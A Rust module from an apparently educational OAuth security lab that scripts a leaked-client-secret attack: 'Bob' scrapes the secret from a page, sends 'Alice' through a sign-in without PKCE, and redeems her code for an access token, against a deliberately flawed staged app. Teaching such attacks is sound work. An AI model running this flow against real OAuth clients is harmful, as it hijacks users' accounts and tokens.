//! A client secret in the page.

use super::small_or_sound;
use crate::{
    crew::{VICTIM, catch_callback, link_to, parameter, shown, told},
    lab::{Lab, Played, Side},
    small_client::Flaw,
    stage::Stage,
};
use serde_json::Value;
use valetkey_browser::{Browser, Request};

pub(super) const LAB: Lab = Lab {
    name: "leaked-secret",
    title: "A client secret in the page",
    clause: "RFC 6749 10.1",
    attack: "The app gives its client secret to a script in the page. Bob reads the page's source. He can now speak to the token \
endpoint as the app, and start sign-ins in its name: he sends Alice through one without PKCE and redeems the code.",
    lesson: "What is in a page is public. The secret stays on the server; an app that cannot keep one is a public client and \
relies on PKCE.",
    by_hand: |stage| {
        vec![
            format!(
                "As Bob: open {} and read the source of the page. Is there a secret?",
                stage.app
            ),
            format!(
                "With it, and a code of Alice's, POST to {}: grant_type=authorization_code, code, redirect_uri={}, client_id, client_secret.",
                stage.token, stage.redirect_uri
            ),
        ]
    },
    stage: |variant| Box::pin(small_or_sound(variant, Flaw::SecretInPage)),
    play: |stage| Box::pin(play(stage)),
};

async fn play(stage: &Stage) -> Played {
    let (bob, alice) = (Browser::new(), Browser::new());
    let page = bob.open(&stage.app).await.map_err(told)?;
    let secret = page
        .body
        .split("data-client-secret=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .filter(|s| !s.is_empty())
        .map(str::to_owned);
    // Bob's own link: the app's client id and redirect URI, no challenge.
    let link = link_to(
        &stage.authorization,
        &[
            ("response_type", "code"),
            ("client_id", &stage.client_id),
            ("redirect_uri", &stage.redirect_uri),
            ("scope", "openid profile"),
            ("state", "bob"),
        ],
    );
    let caught = catch_callback(&alice, &link, VICTIM).await?;
    let code = parameter(&caught, "code").ok_or("no code")?;
    let mut form = vec![
        ("grant_type", "authorization_code"),
        ("code", code.as_str()),
        ("redirect_uri", stage.redirect_uri.as_str()),
        ("client_id", stage.client_id.as_str()),
    ];
    if let Some(secret) = &secret {
        form.push(("client_secret", secret));
    }
    let answer = bob
        .send(Request::post(&stage.token, &form).map_err(told)?)
        .await
        .map_err(told)?;
    let body: Value = serde_json::from_str(&answer.body).unwrap_or_default();
    let token = body["access_token"].as_str();
    Ok(Side {
        succeeded: token.is_some(),
        evidence: match token {
            Some(token) => format!("Bob holds an access token of Alice's, {}", shown(token)),
            None => format!("the page holds no secret, and the token endpoint answered {} {}", answer.status, body["error"]),
        },
        attacker: vec![
            match &secret {
                Some(secret) => format!("Bob found the client secret in the page: {}.", shown(secret)),
                None => "Bob searched the page for a secret and found none.".into(),
            },
            "He sent Alice through a sign-in of his own making, in the app's name, and tried to redeem the code.".into(),
        ],
        victim: vec!["Alice saw the provider's usual pages, with the app's name.".into()],
        code: None,
    })
}
